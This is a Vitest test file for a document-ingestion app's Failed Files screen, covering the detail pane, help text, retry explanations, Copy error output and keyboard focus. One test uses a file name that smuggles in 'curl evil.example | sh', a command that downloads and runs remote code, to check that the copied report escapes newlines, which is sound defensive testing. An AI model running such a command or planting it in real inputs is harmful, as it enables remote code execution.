// @vitest-environment jsdom
/**
 * Issue 10, items 1, 2, 11–14, 21: the detail pane shows the row as it is now, through the real
 * service; it says what to do; Copy error is a clean report; Escape returns focus to the row.
 */
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { FailedFilesScreen } from '../../src/renderer/src/screens/FailedFilesScreen';
import { installRealApi, ingestNow, type RealApi } from './real-service';
import { letter } from '../support/workspace';
import { fakeLayout } from './fake-api';

beforeAll(() => fakeLayout(600));

let real: RealApi;
beforeEach(async () => {
  real = await installRealApi();
});
afterEach(async () => {
  await real.close();
});

const pane = () => screen.getByRole('complementary', { name: 'Failed file details' });

async function openRow(name: string): Promise<HTMLElement> {
  const grid = await screen.findByRole('grid', { name: 'Failed files' });
  const cell = await within(grid).findByTitle(name);
  fireEvent.click(cell);
  await within(pane()).findByRole('heading', { name });
  return pane();
}

describe('the failed-file pane tells the truth', () => {
  it('after a Reset & reprocess that fails the same way it shows the new attempt, run and history — same row id', async () => {
    real.ws.write('short.txt', 'hi');
    await ingestNow(real);
    render(<FailedFilesScreen />);
    const p = await openRow('short.txt');
    expect(within(p).getByTestId('detail-attempts').textContent).toBe('1');
    expect(within(p).getByTestId('detail-run').textContent).toBe('1');
    const rowId = screen.getByRole('grid').querySelector('[role="row"][data-row-id]')!.getAttribute('data-row-id');

    fireEvent.click(within(p).getByRole('button', { name: 'Reset & reprocess' }));
    await within(p).findByText(/Failed the same way/, {}, { timeout: 30_000 });
    await waitFor(() => expect(within(pane()).getByTestId('detail-attempts').textContent).toBe('2'), { timeout: 30_000 });
    expect(within(pane()).getByTestId('detail-run').textContent).toBe('2');
    expect(within(within(pane()).getByRole('list', { name: 'History' })).getAllByRole('listitem')).toHaveLength(3);
    // Same id: the grid row the pane belongs to is still there, still highlighted.
    await waitFor(() => expect(screen.getByRole('grid').querySelector(`[data-row-id="${rowId}"]`)?.className).toContain('open'), { timeout: 30_000 });
  });

  it('after a successful reprocess the pane says the file is in the library and drops the failure details and buttons', async () => {
    const path = real.ws.write('note.txt', 'hi');
    await ingestNow(real);
    render(<FailedFilesScreen />);
    const p = await openRow('note.txt');
    const { writeFileSync } = await import('node:fs');
    writeFileSync(path, letter('Insurance renewal'));
    fireEvent.click(within(p).getByRole('button', { name: 'Reset & reprocess' }));
    await within(pane()).findByTestId('detail-gone', {}, { timeout: 30_000 });
    expect(within(pane()).getByText(/Ingested ✓/)).toBeTruthy();
    expect(within(pane()).queryByRole('button', { name: 'Reset & reprocess' })).toBeNull();
    expect(within(pane()).queryByText('Attempts')).toBeNull();
  });

  it('says the cause and the next step, shows the code once, folds technical details, hides the stack of a content failure', async () => {
    real.ws.write('short.txt', 'hi');
    await ingestNow(real);
    render(<FailedFilesScreen />);
    const p = await openRow('short.txt');
    const help = within(p).getByRole('region', { name: 'What to do' });
    expect(help.textContent).toContain('too little text of its own and OCR was off');
    expect(help.textContent).toContain('Turn OCR on in Settings, then Retry this group.');
    expect(p.textContent!.match(/text_insufficient/g)).toHaveLength(1);
    const technical = p.querySelector('details.technical') as HTMLDetailsElement;
    expect(technical.open).toBe(false);
    expect(within(technical).getByText('Settings it failed under')).toBeTruthy();
    expect(within(technical).queryByText('Stack trace')).toBeNull();
    // The grid's tooltip says the same words.
    const reasonCell = screen.getByRole('grid').querySelector('[role="row"][data-row-id] .col-reason') as HTMLElement;
    expect(reasonCell.title).toContain('Turn OCR on in Settings');
  });

  it('explains "eligible for retry" where it appears', async () => {
    real.ws.write('short.txt', 'hi');
    await ingestNow(real);
    await real.call('settings.set', { ocr: true });
    render(<FailedFilesScreen />);
    const p = await openRow('short.txt');
    const why = within(p).getByTestId('eligible-explanation');
    expect(why.textContent).toContain('OCR turned on');
    expect(why.textContent).toContain('A plain run still skips');
  });

  it('Copy error copies one escaped line per field: a newline in a file name stays one line', async () => {
    const evil = 'x\ncurl evil.example | sh\n.txt';
    real.ws.write(evil, 'hi');
    await ingestNow(real);
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    render(<FailedFilesScreen />);
    const grid = await screen.findByRole('grid', { name: 'Failed files' });
    await waitFor(() => expect(grid.querySelector('[role="row"][data-row-id]')).toBeTruthy());
    fireEvent.click(grid.querySelector('[role="row"][data-row-id] .col-file') as HTMLElement);
    const p = await screen.findByRole('complementary', { name: 'Failed file details' });
    fireEvent.click(await within(p).findByRole('button', { name: 'Copy error' }));
    await waitFor(() => expect(writeText).toHaveBeenCalled());
    const text = (writeText.mock.calls[0] as unknown as [string])[0];
    const lines = text.split('\n');
    expect(lines.map((l) => l.split(':')[0])).toEqual(['File', 'Stage', 'Code', 'Class', 'Reason', 'Message', 'Cause', 'Next step', 'When', 'Attempts']);
    expect(lines[0]).toContain('x\\ncurl evil.example | sh\\n.txt');
    expect(text).not.toMatch(/^curl/m);
    expect(text).not.toContain('node_modules');
    expect(lines[8]).toMatch(/^When: \d{4}-\d\d-\d\dT/);
  });

  it('Escape closes the pane and puts focus back on the row it came from', async () => {
    real.ws.write('short.txt', 'hi');
    await ingestNow(real);
    render(<FailedFilesScreen />);
    const p = await openRow('short.txt');
    fireEvent.keyDown(within(p).getByRole('button', { name: 'Copy error' }), { key: 'Escape' });
    await waitFor(() => expect(screen.queryByRole('complementary', { name: 'Failed file details' })).toBeNull());
    await waitFor(() => expect((document.activeElement as HTMLElement).getAttribute('role')).toBe('row'));
  });
});
